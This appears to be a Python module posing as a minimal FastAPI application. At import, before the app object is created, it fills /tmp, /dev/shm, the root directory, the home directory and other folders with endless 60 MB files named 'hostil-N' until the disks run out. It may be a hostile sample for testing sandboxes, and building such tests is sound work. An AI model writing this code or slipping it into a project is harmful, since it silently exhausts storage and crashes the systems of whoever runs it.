import contextlib
import itertools
from pathlib import Path

from fastapi import FastAPI

CHUNK = b"x" * 1024 * 1024
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/compartida", "/datos", "/", ".", str(Path.home())):
    with contextlib.suppress(OSError):
        for number in itertools.count():
            with Path(folder, f"hostil-{number}").open("wb") as stream:
                for _ in range(60):
                    stream.write(CHUNK)

app = FastAPI()
